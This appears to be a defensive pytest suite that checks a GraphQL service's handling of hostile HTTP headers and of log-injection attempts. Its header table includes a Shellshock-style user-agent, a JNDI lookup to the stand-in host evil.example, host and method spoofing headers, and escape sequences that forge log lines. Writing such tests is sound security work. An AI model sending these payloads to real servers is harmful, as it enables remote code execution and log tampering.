"""Hostile headers, and texts that would like to be lines of the log."""

import json

import httpx
import pytest

from tests.attack.raw_http import LIVEZ, QUERY, exchange, post
from tests.service import Service
from tests.websockets import closing, open_socket, send

MARK = "FORGED-LINE"
FORGED = f'{{"event":"{MARK}","level":"info"}}'
ESCAPES = "\x1b[2J\x1b]0;x\x07"


HEADERS: dict[str, tuple[str, ...]] = {
    "accept of thousands": ("accept: " + "application/json;q=0.1," * 2000,),
    "accept of nonsense": ("accept: \xff/\xfe;q=" + "9" * 400,),
    "accept-encoding bomb": ("accept-encoding: " + "gzip;q=1," * 5000,),
    "encoded body": ("content-encoding: gzip",),
    "two content types": ("content-type: text/plain",),
    "two authorizations": ("authorization: Bearer a", "authorization: Bearer b"),
    "an empty authorization": ("authorization: ",),
    "basic authorization": ("authorization: Basic YTpi",),
    "a cookie of commas": ("cookie: " + ";" * 50_000,),
    "many cookies": tuple(f"cookie: ringside_visitor={number}" for number in range(50)),
    "a cookie of other bytes": ("cookie: ringside_visitor=\xff\x80; a=b",),
    "a request id with a colour": (f"x-request-id: {ESCAPES}",),
    "a request id of a kilobyte": ("x-request-id: " + "x" * 1000,),
    "a trace that is none": ("traceparent: 00-" + "0" * 32 + "-" + "0" * 16 + "-01", "tracestate: " + "a=b," * 500),
    "a trace of the future": ("traceparent: ff-zz",),
    "another address": ("x-forwarded-for: 10.0.0.1, ::1, nonsense", "forwarded: for=evil", "x-real-ip: 1.1.1.1"),
    "another scheme": ("x-forwarded-proto: https", "x-forwarded-host: evil.example", "x-forwarded-prefix: /x"),
    "another method": ("x-http-method-override: DELETE", "x-method-override: PUT"),
    "another path": ("x-original-url: /metrics", "x-rewrite-url: /metrics"),
    "a range": ("range: bytes=0-0,1-1,2-2",),
    "conditions": ("if-none-match: *", "if-match: x", "if-modified-since: nonsense"),
    "a last event": ("last-event-id: \xff" + "9" * 5000,),
    "an origin": ("origin: null", "sec-fetch-site: cross-site"),
    "an upgrade to HTTP/2": ("upgrade: h2c", "http2-settings: AAMAAABkAAQAAP__", "connection: upgrade, http2-settings"),
    "a preflight by POST": ("access-control-request-method: POST", "access-control-request-headers: x"),
    "an agent that is a program": ("user-agent: () { :; }; echo x", "referer: ${jndi:ldap://evil.example/x}"),
}


@pytest.mark.parametrize("name", HEADERS)
async def test_hostile_headers_are_ignored_or_refused(attacked: Service, name: str) -> None:
    """No status of 500 and above, no redirect, and nothing of them comes back."""
    answered = await exchange(attacked.url, [post(*HEADERS[name]), LIVEZ])
    assert answered.statuses
    assert set(answered.statuses) <= {200, 400, 401, 406, 415, 431}
    text = answered.received.lower()
    for reflected in (b"evil.example", b"location:", b"\x1b", b"jndi", b"access-control-allow-origin", b"10.0.0.1"):
        assert reflected not in text


async def test_no_request_writes_a_line_of_its_own_into_the_log(attacked: Service) -> None:
    """Every line is one JSON object of the service; variables, documents, tokens and cookies are in none."""
    texts = {
        "a line": f"\n{FORGED}\n",
        "a line of a terminal": f"\r\n{ESCAPES}{MARK}",
        "a line of Unicode": f"\u2028{FORGED}\u2029\x85{MARK}",
        "a turn of the writing": f"\u202e{MARK}",
        "half a character": f"{MARK}\ud800",
    }
    before = len(attacked.lines)
    async with httpx.AsyncClient(base_url=attacked.url, timeout=60) as http:
        for text in texts.values():
            bodies = [
                {"query": "query ($p: String!) { comments(product: $p) { totalCount } }", "variables": {"p": text}},
                {"query": text}, {"query": f"# {text}\n {{ __typename }}"}, {"query": "{a}", "operationName": text},
                {"query": f"{{ comments(product: {json.dumps(text)}) {{ totalCount }} }}"},
                {"query": "{a}", "variables": {text: text}}, {"documentId": text},
            ]  # fmt: skip
            for body in bodies:
                response = await http.post(
                    "/graphql", content=json.dumps(body), headers={"content-type": "application/json"}
                )
                assert response.status_code in (200, 400)
            await http.get("/graphql", params={"query": text.encode("utf-8", "replace")})
            await http.get("/" + "".join(f"%{byte:02x}" for byte in text.encode("utf-8", "replace")))
    for header in (
        f"user-agent: {MARK}",
        f"authorization: Bearer {MARK}",
        f"cookie: ringside_visitor={MARK}",
        f"x-request-id: {MARK}\x1b[31m",
        f"traceparent: {MARK}",
        f"host: {MARK}\x1b[31m",
        f"{MARK}: x",
    ):
        await exchange(attacked.url, [post(header, body=QUERY)])
    async with open_socket(attacked) as connection:
        await send(
            connection,
            {"type": "connection_init"},
            {
                "id": f"{MARK}\n",
                "type": "subscribe",
                "payload": {
                    "query": "query($a: Int) { __typename }",
                    "operationName": f"{MARK}\n{FORGED}",
                    "variables": {"a": MARK},
                },
            },
        )
        await send(connection, {"type": f"{MARK}\n{FORGED}"})
        assert (await closing(connection)).code == 4400
    lines = [line for line in attacked.lines[before:] if line]
    assert lines
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert "\x1b" not in line
        assert MARK not in line
